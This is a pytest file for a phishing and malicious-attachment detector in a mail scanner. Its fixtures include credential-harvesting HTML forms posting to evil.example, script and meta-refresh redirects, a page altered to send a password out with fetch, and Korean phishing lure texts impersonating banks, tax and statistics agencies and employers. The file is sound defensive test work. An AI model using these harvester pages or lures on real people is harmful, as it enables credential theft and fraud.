"""Structural signals: macro documents, HTML attachments, pictures without text, and how they score."""

from __future__ import annotations

import base64

import pytest

from app.mail.decode import Attachment, DecodedMessage, decode_message
from app.policy.settings import SPECS, SettingError, Settings
from app.policy.signal_scores import SIGNAL_SCORES
from app.policy.signals import message_signals
from app.scan.documents import document_findings

from tests.support.documents import HARVESTER, SECURE_STATEMENT, ole, ooxml

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def kinds(name: str, data: bytes, ctype: str = "application/octet-stream") -> list[str]:
    return [f.kind for f in document_findings([Attachment(name, ctype, len(data), data)])]


def test_macro_documents_by_name_by_zip_content_and_by_ole_storage():
    assert kinds("매출.xlsx", ooxml(macros=False), XLSX) == []
    assert kinds("매출.xlsx", ooxml(macros=True), XLSX) == ["macro"]  # vbaProject.bin whatever the name says
    assert kinds("report.zip", ooxml(macros=True, main="word/document.xml")) == ["macro"]
    assert kinds("청구서.xlsm", ooxml(macros=False)) == ["macro"]
    assert kinds("INVOICE.DOCM", b"") == ["macro"]
    assert kinds("old.doc", ole(("Macros", "VBA", "_VBA_PROJECT"), ("WordDocument",))) == ["macro"]
    assert kinds("old.xls", ole(("_VBA_PROJECT_CUR", "VBA", "dir"), ("Workbook",))) == ["macro"]
    assert kinds("noname", ole(("_VBA_PROJECT_CUR", "VBA", "dir"))) == ["macro"]
    assert kinds("plain.doc", ole(("WordDocument",), ("SummaryInformation",))) == []
    assert kinds("plain.xls", ole(("Workbook",))) == []


def test_damaged_documents_are_not_findings_and_never_raise():
    head = ole(("Macros", "VBA", "_VBA_PROJECT"))
    for data in (
        head[:600],
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4000,
        b"PK\x03\x04garbage",
        ooxml(macros=True)[:-30],
    ):
        assert kinds("x.doc", data) == []


def test_html_attachments_with_forms_scripts_or_redirects():
    login = (
        '<html><body><form action="https://evil.example/p"><input name=u><INPUT TYPE="Password" name=p>'
        "</form></body></html>".encode()
    )
    assert kinds("결제내역.html", login, "text/html") == ["html-form"]
    [finding] = document_findings([Attachment("결제내역.html", "text/html", len(login), login)])
    assert "password field" in finding.reason
    assert kinds("a.htm", b'<form method=post action="//evil.example/p"><input type=text></form>') == ["html-form"]
    assert kinds("a.htm", b"<form method=post><input type=text></form>") == []  # submits to nowhere
    assert kinds("b.html", b"<script>location='https://evil.example'</script>") == ["html-script"]
    assert kinds("c.html", b'<meta http-equiv="refresh" content="0;url=https://evil.example">') == ["html-script"]
    assert kinds("d", b"<p>Invoice attached</p>", "text/html") == []
    assert kinds("notes.txt", b"<form>") == []


def page_signals(name: str, page: str, *, sender: str, text: str) -> dict:
    """The signals of a message from `sender` saying `text` with the web page `page` attached as `name`."""
    encoded = base64.b64encode(page.encode()).decode()
    body = (
        f"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n"
        f'--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename="{name}"\r\n'
        f"Content-Transfer-Encoding: base64\r\n\r\n{encoded}\r\n--b--\r\n"
    )
    raw = (
        f"From: <{sender}>\r\nSubject: 12월 이용대금 명세서\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: multipart/mixed; boundary=b\r\n\r\n{body}"
    ).encode()
    return {hit.name: hit for hit in message_signals(decode_message(raw)).hits}


def test_a_secure_statement_that_decrypts_in_the_browser_is_no_harvester_and_no_lure_target():
    text = "첨부된 보안메일을 열어 비밀번호(사업자등록번호 10자리)를 입력하면 명세서를 확인하실 수 있습니다."
    found = page_signals("카드_12월_이용대금명세서.html", SECURE_STATEMENT, sender="statement@card.example", text=text)
    assert "attachment-html-form" not in found
    assert "attachment-html-script" not in found
    assert "credential-lure" not in found


def test_a_log_in_page_that_posts_elsewhere_keeps_its_strong_score():
    text = "첨부된 파일을 열어 로그인 후 확인해 주세요."
    found = page_signals("INV-2026-4471.html", HARVESTER, sender="billing@invoice-notice.example", text=text)
    assert found["attachment-html-form"].score == SIGNAL_SCORES["attachment-html-form"] == 10.0
    assert found["attachment-html-form"].snippet == "INV-2026-4471.html"
    assert found["credential-lure"].snippet.endswith("-> INV-2026-4471.html")
    # the same page sealed like a statement but sending the password out is still a harvester
    sealed = SECURE_STATEMENT.replace("decrypt(atob(sealed),key);", "decrypt(atob(sealed),key);fetch(u,{body:key});")
    assert kinds("명세서.html", sealed.encode()) == ["html-form"]


def mime(html: str | None = None, text: str | None = None, image: bool = False) -> bytes:
    parts = []
    if text is not None:
        parts.append(f"Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n")
    if html is not None:
        parts.append(f"Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n")
    if image:
        png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 64).decode()
        parts.append(
            f"Content-Type: image/png\r\nContent-Disposition: inline; filename=a.png\r\n"
            f"Content-Transfer-Encoding: base64\r\n\r\n{png}\r\n"
        )
    body = "".join(f"--b\r\n{p}" for p in parts) + "--b--\r\n"
    return (
        "From: kim@example.co.kr\r\nSubject: 안내\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: multipart/mixed; boundary=b\r\n\r\n{body}"
    ).encode()


def names(raw: bytes, overrides=None) -> list[str]:
    return message_signals(decode_message(raw), overrides).names


def test_image_only_and_almost_no_text():
    assert names(mime(html='<img src="cid:a.png">', image=True)) == ["image-only"]
    assert names(mime(html='<a href="https://shop.example/x"><img src="https://cdn.example/b.jpg"></a>')) == [
        "image-only",
        "almost-no-text",
        "image-link",
    ]  # the picture is the link: see tests/unit/policy/test_signal_lures.py
    assert names(mime(text="확인: https://shop.example/order/1234567890")) == ["almost-no-text"]
    letter = "안녕하세요. 지난주 회의에서 말씀드린 견적서를 첨부합니다. 검토 부탁드립니다."
    assert names(mime(html=f'<p>{letter}</p><img src="cid:logo">', image=True)) == []
    assert names(mime(text=letter + " https://www.example.co.kr/quote")) == []


def test_a_phishing_message_scores_each_signal_once_and_scores_come_from_the_table():
    html = (
        "<p>고객님의 계정이 잠겼습니다. 아래에서 본인 확인을 진행해 주세요. 확인하지 않으면 이용이 제한됩니다.</p>"
        '<a href="https://kbstar-security.com/a">www.kbstar.com</a> <a href="https://kbstar-security.com/b">x</a>'
        '<a href="https://bit.ly/x">택배</a>'
    )
    signals = message_signals(decode_message(mime(html=html)))
    assert signals.names == [
        "link-brand-lookalike",
        "link-text-mismatch",
        "link-shortener",
        "credential-lure",
        "threat-unless",  # 확인하지 않으면 이용이 제한됩니다
    ]
    assert signals.hits[3].snippet == "본인확인 -> bit.ly"  # the shortener, not the look-alike, is the lure's target
    assert [h.score for h in signals.hits] == [SIGNAL_SCORES[n] for n in signals.names]
    assert signals.hits[0].snippet == "kbstar-security.com (looks like kbstar.com)"
    assert {h.category for h in signals.hits} == {"signal"}
    quiet = message_signals(
        decode_message(mime(html=html)),
        {"link-shortener": 0, "link-text-mismatch": 1, "credential-lure": 0, "threat-unless": 0},
    )
    assert quiet.names == ["link-brand-lookalike", "link-text-mismatch"] and quiet.hits[1].score == 1


def test_a_macro_attachment_is_a_signal():
    data = ooxml(macros=True)
    message = DecodedMessage(
        text="첨부 파일을 확인해 주세요. 급한 건이라 오늘 중으로 회신 부탁드립니다.",
        attachments=[Attachment("견적.xlsx", XLSX, len(data), data)],
    )
    [hit] = message_signals(message).hits
    assert (hit.name, hit.field, hit.snippet, hit.score) == ("attachment-macro", "attachment", "견적.xlsx", 10.0)


def test_signal_scores_setting():
    spec = SPECS["content.signal_scores"]
    assert spec.parse(" Link-Shortener=0 , image-only = 1.5") == "link-shortener=0,image-only=1.5"
    for bad in ("nope=1", "link-shortener", "link-shortener=x", "image-only=inf"):
        with pytest.raises(SettingError):
            spec.parse(bad)
    settings = Settings.from_rows({"content.signal_scores": "image-only=1.5"})
    assert settings.signal_scores == {"image-only": 1.5}
    assert Settings.from_rows({"content.signal_scores": "garbage"}).signal_scores == {}


def test_a_message_that_claims_a_brand_and_links_elsewhere_fires_brand_claim_offsite() -> None:
    from app.mail.decode import decode_message
    from app.policy.signals import message_signals

    phish = (
        "From: =?utf-8?B?6rWt7IS47LKt?= <notice@refund-center.example>\r\nSubject: [국세청] 환급금 안내\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n\r\n환급 신청: https://refund-center.example/apply\r\n"
    ).encode()
    assert "brand-claim-offsite" in message_signals(decode_message(phish)).names
    real = (
        "From: =?utf-8?B?6rWt7IS47LKt?= <nts_info@nts.go.kr>\r\nSubject: [국세청] 환급금 안내\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n\r\n신청: https://www.4insure.or.kr/\r\n"
    ).encode()
    assert "brand-claim-offsite" not in message_signals(decode_message(real)).names  # the sender is the body
    linked = (
        "From: <notice@mailer.example>\r\nSubject: [국세청] 환급금 안내\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n\r\nhttps://www.hometax.go.kr/\r\n"
    ).encode()
    assert "brand-claim-offsite" not in message_signals(decode_message(linked)).names  # links to the real site


def test_image_maps_and_background_banners_are_pictures_that_link():
    image_map = (
        '<img src="cid:banner" usemap="#m" alt=""><map name="m">'
        '<area shape="rect" coords="0,0,500,266" href="https://casino-royal77.example/join" alt="">'
        '<AREA shape=rect coords="0,266,500,532" href=https://t.me/royal77vip></map>'
    )
    signals = message_signals(decode_message(mime(html=image_map, image=True)))
    assert signals.names == ["image-only", "almost-no-text", "image-link"]
    assert [link.host for link in signals.links] == ["casino-royal77.example", "t.me"]
    background = (
        '<table background="cid:img285@x" style="background-image:url(\'cid:img285@x\')"><tr><td>'
        '<a href="http://19-chat.example">&nbsp;</a></td></tr></table>'
    )
    assert "image-link" in names(mime(html=background, image=True))
    # a coloured cell is no picture, and a picture map with nothing to link to is no link
    assert "image-link" not in names(
        mime(html='<td style="background:#006633"><a href="https://a.example/">a</a></td>')
    )
    assert names(mime(html='<img src="cid:a" usemap="#m"><map name="m"></map>', image=True)) == ["image-only"]
    letter = "안녕하세요. 지난주 회의에서 말씀드린 견적서를 첨부합니다. 검토 부탁드립니다. 일정은 다음 주 화요일로 잡겠습니다. 현장 배치도는 아래 그림에서 보실 수 있습니다."
    assert (
        names(
            mime(
                html=f'<p>{letter}</p><img src="cid:plan" usemap="#m"><map><area href="https://a.example/x"></map>',
                image=True,
            )
        )
        == []
    )


def _from(display: str, address: str, subject: str, body: str) -> bytes:
    return (
        f"From: {display} <{address}>\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
    ).encode()


def test_a_public_body_named_by_a_sender_outside_kr_is_a_signal():
    body = "귀 사업체는 경제총조사 대상입니다. 미응답 시 과태료가 부과됩니다. 온라인 응답: http://kostat-survey.kr.com/e-survey"
    signals = message_signals(
        decode_message(_from("통계청", "survey@kostat-survey.kr.com", "경제총조사 응답 요청", body))
    )
    assert "public-body-offsite" in signals.names
    assert signals.hits[signals.names.index("public-body-offsite")].snippet == "통계청 <kostat-survey.kr.com>"
    # the subject's leading tag counts; a generic 공단/진흥원 name too
    assert "public-body-offsite" in names(
        _from(
            "알림",
            "a@comwel-refund.example",
            "[근로복지공단] 반환금 지급 안내",
            "신청: http://comwel-refund.example/apply",
        )
    )
    assert "public-body-offsite" in names(
        _from("경기 경제 진흥원", "a@gbsa-notice.example", "지원사업 선정", "확인: http://gbsa-notice.example/x")
    )
    # the real body's mail comes from .kr; a mention further into the subject or the body is no claim
    assert "public-body-offsite" not in names(_from("국세청", "noreply@nts.go.kr", "[국세청] 연말정산 안내", body))
    assert "public-body-offsite" not in names(_from("한국전력", "bill@kepco.co.kr", "전기요금 안내", body))
    assert "public-body-offsite" not in names(
        _from("세무법인 한결", "news@hangyeol-tax.com", "[세무소식] 국세청 연말정산 일정", body)
    )
    # nothing to click or open: no lure to score
    assert "public-body-offsite" not in names(_from("통계청", "a@kostat.example", "조사 안내", "응답 감사합니다."))
    assert names(_from("통계청", "survey@kostat-survey.kr.com", "조사", body), {"public-body-offsite": 0}) == [
        n for n in names(_from("통계청", "survey@kostat-survey.kr.com", "조사", body)) if n != "public-body-offsite"
    ]


def test_public_body_claim_never_raises():
    from hypothesis import given, strategies as st

    from app.mail.brands import public_body_claim

    @given(st.text(max_size=80), st.text(max_size=80), st.text(max_size=40))
    def check(display, subject, domain):
        assert isinstance(public_body_claim(display, subject, domain), str)

    check()


def test_a_company_sender_whose_replies_go_to_a_free_mailbox():
    def message(sender: str, reply_to: str | None) -> bytes:
        reply = f"Reply-To: <{reply_to}>\r\n" if reply_to else ""
        return (
            f"From: 인사팀 <{sender}>\r\n{reply}Subject: 서류 합격 안내\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/plain; charset=utf-8\r\n\r\n서류 합격을 축하드립니다. 응시료 납부 후 회신 바랍니다.\r\n"
        ).encode()

    signals = message_signals(decode_message(message("hr@samsung-careers.example", "hr876@proton.me")))
    assert signals.names == ["reply-to-freemail"]
    assert signals.hits[0].snippet == "samsung-careers.example -> reply to proton.me"
    assert names(message("hr@samsung-careers.example", None)) == []
    assert names(message("kim@naver.com", "kim.minsu@gmail.com")) == []  # one person's two free mailboxes
    assert names(message("news@shop.example", "help@shop.example")) == []
    assert names(message("news@mail.shop.example", "cs@shop.example")) == []
    assert names(message("hr@samsung-careers.example", "x@gmail.com"), {"reply-to-freemail": 0}) == []


def test_a_link_with_a_domain_spelled_out_in_front_of_another():
    text = "We build apps for small businesses. Book a free call: https://calendly.com.appdevstudio-global.example/free"
    signals = message_signals(decode_message(mime(text=text)))
    assert signals.names == ["link-domain-prefix"]
    assert signals.hits[0].snippet == "calendly.com.appdevstudio-global.example"
    for honest in (
        "https://calendly.com/kevin/15min",
        "https://www.shop.co.kr/event",
        "https://news.mail.example.com/x",
    ):
        assert names(mime(text=f"We build apps for small businesses. Book a call: {honest}")) == []


def test_country_language_and_site_part_labels_are_no_domain_spelled_in_front():
    for honest in (
        "https://www.kr.playstation.com/ko-kr/games/",
        "https://store.kr.playstation.com/",
        "https://m.en.wikipedia.org/wiki/Seoul",
        "https://en.m.wikipedia.org/wiki/Seoul",
        "https://m.us.example.com/help",
        "https://www.en.example.com/",
        "https://kr.co.example.com/",
    ):
        assert "link-domain-prefix" not in names(mime(text=f"자료는 여기에 있습니다: {honest}")), honest
    for lure in (
        "https://zoom.us.j.meeting-join.example/8812",  # a service's own domain before a country label
        "https://wedding-card.kr.mobile-inv.example/",  # a hyphenated name before one
        "https://yeoncheon.go.kr.e-notice.example/doc",  # a two-label suffix
        "https://groupware.com.pw-change.example/",
    ):
        assert "link-domain-prefix" in names(mime(text=f"자료는 여기에 있습니다: {lure}")), lure


def test_a_domain_made_of_a_global_service_name_and_other_words():
    from app.mail.brands import service_word_domain

    assert service_word_domain("fedex-customs-pay.com") == "fedex"
    assert service_word_domain("secure.quickbooks-invoices.net") == "quickbooks"
    assert service_word_domain("m365-authenticator.com") == "m365"
    for honest in (
        "fedex.com",
        "www.paypal.com",
        "adobesign.com",
        "paypalshop.example",
        "apple-dental.co.kr",
        "dropboxusercontent.com",
        "netflix.com",
        "",
        "-",
        "a..b",
    ):
        assert service_word_domain(honest) == "", honest
    text = "Import duty due: KRW 38,200. Pay within 72 hours: http://fedex-customs-pay.example/pay?awb=7748"
    signals = message_signals(decode_message(mime(text=text)))
    assert signals.names == ["service-word-domain"]
    assert signals.hits[0].snippet == "fedex-customs-pay.example (fedex)"


def test_the_mark_of_a_text_message_pasted_into_mail():
    text = "[Web발신]\n축하드립니다. 최종 합격하셨습니다. 입사 서류로 신분증 사진과 통장 사본을 회신해 주세요."
    signals = message_signals(decode_message(mime(text=text)))
    assert signals.names == ["sms-mark"]
    assert "sms-mark" in names(mime(text="[ WEB발신 ] 부고 알림"))
    assert names(mime(text="웹 발신 메일 설정을 바꿨습니다. Web 발신 서버는 그대로입니다.")) == []  # no bracketed mark
    assert names(mime(text="x" * 400 + " [Web발신] quoted far below")) == []
